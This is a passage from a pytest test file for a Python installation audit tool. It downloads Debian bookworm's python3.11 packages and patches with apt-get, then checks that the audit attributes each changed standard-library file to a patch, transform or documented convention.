                (parts / f"{index}-{path.name}").write_text(text)
            else:
                lines = [line for line in text.splitlines() if line.startswith("deb ")]
                (parts / f"{index}-{path.name}.list").write_text(
                    "".join(f"{line}\n{line.replace('deb ', 'deb-src ', 1)}\n" for line in lines)
                )
    for directory in ("lists/partial", "cache/archives/partial"):
        (base / directory).mkdir(parents=True)
    config = base / "apt.conf"
    config.write_text(
        'Dir::Etc::SourceList "/dev/null";\n'
        f'Dir::Etc::SourceParts "{parts}";\n'
        f'Dir::State::Lists "{base / "lists"}";\n'
        f'Dir::Cache "{base / "cache"}";\n'
        'Debug::NoLocking "true";\n'
    )
    return dict(os.environ, APT_CONFIG=str(config))


CORE_PACKAGES = ("libpython3.11-minimal", "libpython3.11-stdlib", "python3.11-minimal")
"""bookworm's packages that hold the standard library and the interpreter."""


def _named(debs: list[Path], *names: str) -> list[Path]:
    """The ``.deb`` files of the packages ``names`` (``NAME_VERSION_ARCH.deb``), in that order."""
    by_name = {deb.name.split("_", 1)[0]: deb for deb in debs}
    return [by_name[name] for name in names]


@pytest.fixture(scope="module")
def debian_python311(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path]]:
    """bookworm's python3.11 debian/patches and its .deb files (the core packages, python3.11-venv and
    python3.11 itself), fetched now with apt-get (not stored)."""
    if shutil.which("apt-get") is None:
        pytest.skip("needs apt-get")
    base = tmp_path_factory.mktemp("apt")
    env = _apt_config(base / "apt")
    subprocess.run(["apt-get", "update", "-qq"], env=env, check=True, capture_output=True, timeout=600)
    shown = subprocess.run(
        ["apt-cache", "showsrc", "python3.11"], env=env, check=True, capture_output=True, text=True
    ).stdout
    versions = sorted(
        {line.split(":", 1)[1].strip() for line in shown.splitlines() if line.startswith("Version:")}, reverse=True
    )
    for attempt, version in enumerate(versions):  # the newest whose source and binaries the mirror still serves
        download = base / f"download-{attempt}"  # a fresh directory: never a mix of two versions
        download.mkdir()
        source = subprocess.run(
            ["apt-get", "source", "--download-only", f"python3.11={version}"],
            env=env,
            cwd=download,
            capture_output=True,
            timeout=600,
            check=False,
        )
        binaries = subprocess.run(
            [
                "apt-get",
                "download",
                *(f"{name}={version}" for name in (*CORE_PACKAGES, "python3.11-venv", "python3.11")),
            ],
            env=env,
            cwd=download,
            capture_output=True,
            timeout=600,
            check=False,
        )
        if source.returncode == 0 and binaries.returncode == 0:
            break
    else:
        pytest.fail(f"no python3.11 version could be downloaded: {versions}")
    (debian_tar,) = download.glob("python3.11_*.debian.tar.*")
    with tarfile.open(debian_tar) as archive:
        extract_all_data(archive, base / "debian")
    return base / "debian" / "debian" / "patches", sorted(download.glob("*.deb"))


EXPLAINED_MODIFIED = {"patched", "transformed", "patched+transformed", "convention"}


@pytest.mark.slow
def test_host_debian_python_every_change_attributed(
    debian_python311: tuple[Path, list[Path]], cpython_fixtures: Path, tmp_path: Path
) -> None:
    patches, _debs = debian_python311
    result = run_audit(
        "3.11.2",
        "/usr",
        "--from",
        cpython_fixtures,
        "--offline",
        "--allow-missing",
        "openpgp",
        "--patches",
        patches,
        "--work-dir",
        tmp_path,
        "--json",
    )
    document = json.loads(result.stdout)
    assert result.returncode == 0 and document["unexplained"] == [], document["unexplained"]
    modified = {f["path"]: f for f in document["sources"]["modified"]}
    assert {f["status"] for f in modified.values()} <= EXPLAINED_MODIFIED
    for name in ("common/activate", "posix/activate.csh", "posix/activate.fish"):
        assert modified[f"lib/python3.11/venv/scripts/{name}"]["status"] == "patched"
    assert modified["lib/python3.11/sysconfig.py"]["patches"], "Debian's install-scheme patch"
    assert sum(f["transform"] == "shebang-rewritten" for f in modified.values()) >= 6
    assert "lib/python3.11/os.py" not in modified
    assert document["conventions"]["sitecustomize-etc"]["paths"] == ["lib/python3.11/sitecustomize.py"]


@pytest.mark.slow
def test_debian_packages_audited_directly(
    debian_python311: tuple[Path, list[Path]], cpython_fixtures: Path, tmp_path: Path
) -> None:
    patches, every_deb = debian_python311
    debs = _named(every_deb, "libpython3.11-minimal", "libpython3.11-stdlib", "python3.11-venv")
    result = run_audit(
        "3.11.2",
        *debs,
        "--from",
        cpython_fixtures,
        "--offline",
        "--allow-missing",
        "openpgp",
        "--patches",
        patches,
        "--work-dir",
        tmp_path,
        "--json",
    )
    document = json.loads(result.stdout)
    assert result.returncode == 0 and document["unexplained"] == [], document["unexplained"]
    assert [p.split()[0] for p in document["packages"]] == [
        "libpython3.11-minimal",
        "libpython3.11-stdlib",
        "python3.11-venv",
    ]
    assert document["prefix"] == "/usr" and document["distribution"] == "debian"
    groups = {g["group"]: g["package"] for g in document["sources"]["not_in_package_set"]}
    assert groups["test"] == "libpython3.11-testsuite" and groups["idlelib"] == "idle-python3.11"
    modified = {f["path"]: f for f in document["sources"]["modified"]}
    assert any("venv" in name for name in modified["lib/python3.11/venv/scripts/common/activate"]["patches"])
    # Without the patches, the same changes are unexplained: the exit code says so.
    bare = run_audit(
        "3.11.2",
        *debs,
        "--from",
        cpython_fixtures,
        "--offline",
        "--allow-missing",
        "openpgp",
        "--work-dir",
        tmp_path,
        "--json",
    )
    assert (
        bare.returncode == 1 and "lib/python3.11/venv/scripts/common/activate" in json.loads(bare.stdout)["unexplained"]
    )


@pytest.mark.slow
def test_bookworm_split_packages_without_the_standard_library_fail_with_what_to_add(
    debian_python311: tuple[Path, list[Path]], cpython_fixtures: Path, tmp_path: Path
) -> None:
    """bookworm's python3.11 package alone holds no standard library (issue 18): one line, exit 1. The
    packages that hold it, with Debian's patches, pass, and say how much of make install they covered."""
    patches, debs = debian_python311
    source = (
        "--from",
        cpython_fixtures,
        "--offline",
        "--allow-missing",
        "openpgp",
        "--work-dir",
        tmp_path,
    )
    (python311,) = _named(debs, "python3.11")
    alone = run_audit("3.11.2", python311, *source)
    assert alone.returncode == 1 and alone.stdout == "", alone.stdout + alone.stderr
    assert alone.stderr.count("\n") == 1 and "Traceback" not in alone.stderr
    assert (
        "no file of the standard library or interpreter of Python 3.11 was in the input "
        f"({python311}): add libpython3.11-stdlib, libpython3.11-minimal and python3.11-minimal"
    ) in alone.stderr
    core = run_audit("3.11.2", *_named(debs, *CORE_PACKAGES), *source, "--patches", patches, "--json")
    document = json.loads(core.stdout)
    assert core.returncode == 0 and document["passed"] is True, document["verdict"]
    coverage = document["coverage"]
    assert coverage["subject"] == "package set" and coverage["shortfalls"] == []
    assert coverage["parts"]["stdlib"]["compared"] > 500 and coverage["parts"]["interpreter"]["present"] == 1
    assert document["source"]["relaxed"] == [
        "--allow-missing openpgp: no openpgp signature was found, and none was required"
    ]
    assert document["verdict"].startswith(f"AUDIT PASSED: 0 unexplained of {coverage['compared']:,} compared (stdlib ")


def test_the_documented_convention_table_is_the_code_s() -> None:
    """docs/audit.md lists every convention id and nothing else, so the report never names an undocumented one."""
    import re as _re

    from verify.audit.conventions import TABLES

    text = (PROJECT_ROOT / "docs" / "audit.md").read_text()
    documented = set(_re.findall(r"^\| `([a-z-]+)` \|", text, _re.M))
    assert documented == {key for table in TABLES.values() for key in table}
    for table in TABLES.values():
        for convention in table.values():
            assert convention.title.split()[0] in text
